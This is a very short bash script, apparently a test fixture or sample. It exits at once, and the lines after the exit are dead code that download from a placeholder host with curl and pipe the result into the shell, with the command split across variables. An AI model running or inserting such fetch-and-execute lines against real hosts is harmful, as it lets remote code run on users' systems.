#!/bin/bash
exit 0 # nothing below ever runs
U=https://h.example.invalid/x
D="curl -s"
$D $U | $SHELL
